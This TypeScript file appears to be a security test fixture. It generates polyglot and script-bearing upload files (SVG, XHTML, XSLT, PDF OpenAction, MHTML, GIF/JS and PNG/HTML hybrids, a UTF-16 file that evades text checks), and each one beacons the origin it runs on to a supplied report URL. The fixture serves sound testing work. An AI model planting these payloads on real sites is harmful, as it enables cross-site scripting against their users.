/** Files that run script where a browser lets them, each telling `report` which of them ran and on which origin. */
import { zip } from "./file-kinds.ts";

export interface ActiveFile {
  readonly name: string;
  /** As a client declares it; the server decides for itself. */
  readonly declared: string;
  readonly bytes: Uint8Array<ArrayBuffer>;
  /** Whether the server may let a browser show it in place. */
  readonly shown: boolean;
}

const encode = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));
const join = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((part) => [...part]));
const utf16 = (text: string) => encode(text.replaceAll(/./gs, "$&\0"));

/** A script that asks for `report` with the file's name and the origin it runs on, and leaves traces in the browser. */
const scriptOf = (report: string, name: string) =>
  `try{localStorage.setItem('ran','${name}');document.cookie='ran=${name}'}catch(e){}` +
  `(function(u){try{new Image().src=u}catch(e){}try{fetch(u,{mode:'no-cors'})}catch(e){}})` +
  `('${report}?file=${name}&on='+encodeURIComponent(self.origin));try{alert(1)}catch(e){}`;

/** One red pixel. */
const pixelPng = encode(
  atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR42mP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"),
);

export function makeActiveFiles(report: string): readonly ActiveFile[] {
  const run = (name: string) => scriptOf(report, name);
  const page = (name: string) =>
    `<!doctype html><title>x</title><body onload="${run(name)}"><script>${run(name)}</script>`;
  const text = (name: string, declared: string, content: string, shown = false): ActiveFile => ({
    name,
    declared,
    bytes: encode(content),
    shown,
  });
  return [
    text(
      "drawing.svg",
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${xml(run("drawing.svg"))}"><script>${xml(run("drawing.svg"))}</script></svg>`,
    ),
    text("page.html", "text/html", page("page.html")),
    text("page.xhtml", "application/xhtml+xml", xhtml(run("page.xhtml"))),
    text("sheet.xml", "application/xml", withTransformation(run("sheet.xml"))),
    // A type that only its ending makes a browser's XML, in an encoding that no text check reads.
    {
      name: "feed.xml",
      declared: "application/rss+xml",
      bytes: join(Uint8Array.of(0xff, 0xfe), utf16(xhtml(run("feed.xml")))),
      shown: false,
    },
    text("news.rss", "application/rss+xml", `<?xml version="1.0"?><rss>${xmlScript(run("news.rss"))}</rss>`),
    text("sum.mml", "application/mathml+xml", `<math>${xmlScript(run("sum.mml"))}</math>`),
    text("letter.eml", "message/rfc822", mhtml(page("letter.eml"))),
    text("readme.md", "text/markdown", `<p onclick="x">a</p><script>${run("readme.md")}</script>`),
    {
      name: "addon.xpi",
      declared: "application/x-xpinstall",
      bytes: zip({ name: "META-INF/mozilla.sf", content: page("addon.xpi") }),
      shown: false,
    },
    text("form.pdf", "application/pdf", pdf(run("form.pdf"))),
    text("letter.mht", "application/octet-stream", mhtml(page("letter.mht")), true),
    text("letter.mhtml", "multipart/related", `${mhtml(page("letter.mhtml"))}\0`),
    text("movie.swf", "application/x-shockwave-flash", `FWS\x09\x40\0\0\0${page("movie.swf")}`),
    text("code.js", "text/javascript", run("code.js"), true),
    text("binary.js", "application/octet-stream", `/*\x01*/${run("binary.js")}`),
    text(
      "style.css",
      "text/css",
      `@import url("${report}?file=style.css&on=style");*{background:url("${report}?file=style.css&on=style")}`,
      true,
    ),
    text("notes.txt", "application/octet-stream", `Notes\n${page("notes.txt")}`, true),
    text("picture-script.gif", "image/gif", `GIF89a/*\x01\0\x01\0*/=1;${run("picture-script.gif")}`, true),
    {
      name: "picture-page.png",
      declared: "image/png",
      bytes: join(pixelPng, encode(page("picture-page.png"))),
      shown: true,
    },
    text("picture-page.jpg", "image/jpeg", `\xff\xd8\xff\xfe\x10\0${page("picture-page.jpg")}\xff\xd9`, true),
  ];
}

const xml = (script: string) => script.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

const xmlScript = (script: string) => `<script xmlns="http://www.w3.org/1999/xhtml">${xml(script)}</script>`;

const xhtml = (script: string) =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${xml(script)}</script></body></html>`;

const withTransformation = (script: string) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#t"?>
<!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>
<d><xsl:stylesheet id="t" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
<html><body><script>${xml(script)}</script></body></html></xsl:template></xsl:stylesheet>
<script xmlns="http://www.w3.org/1999/xhtml">${xml(script)}</script></d>`;

const pdf = (script: string) => `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replace(/[\\()]/g, "\\$&")})>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

const mhtml = (content: string) =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n` +
  `--b\r\nContent-Type: text/html\r\nContent-Location: http://localhost/\r\n\r\n${content}\r\n--b--\r\n`;
